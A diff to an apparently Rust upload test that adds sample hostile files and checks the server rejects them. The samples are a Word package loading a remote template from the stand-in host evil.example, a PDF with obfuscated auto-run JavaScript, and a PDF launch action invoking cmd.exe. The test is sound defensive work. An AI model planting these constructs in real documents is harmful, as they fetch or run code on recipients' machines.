@@ -249,6 +249,21 @@ async fn a_file_that_is_not_a_resume_is_rejected_and_another_can_be_uploaded() {
         assert_eq!(page.header("cache-control"), "no-store");
         assert_eq!(upload(&page).1.len(), 8, "{description}: the form is shown again");
     }
+    let template =
+        "<r><r Type='x/attachedTemplate' Target='https://evil.example/t.dotm' TargetMode='External'/></r>";
+    let parts = [
+        ("[Content_Types].xml", "<x/>"),
+        ("word/document.xml", "<x/>"),
+        ("word/_rels/settings.xml.rels", template),
+    ];
+    for content in [
+        zip(&parts),
+        b"%PDF-1.7\n1 0 obj\n<</OpenAction<</S/J#61vaScript/JS(app.alert(1))>>>>\nendobj\n%%EOF".to_vec(),
+        b"%PDF-1.7\n1 0 obj\n<</S/Launch/F(cmd.exe)>>\nendobj\n%%EOF".to_vec(),
+    ] {
+        let page = attach(&api, &applied, &content).await.expect(422);
+        assert!(page.text.contains("contains macros, scripts, embedded files or links"), "{}", page.text);
+    }
     // The bucket itself rejects these files and does not redirect.
     let page = browser.follow(&applied).await.expect(200);
     for (content, code) in [(Vec::new(), "EntityTooSmall"), (vec![b'x'; MAX + 1], "EntityTooLarge")] {
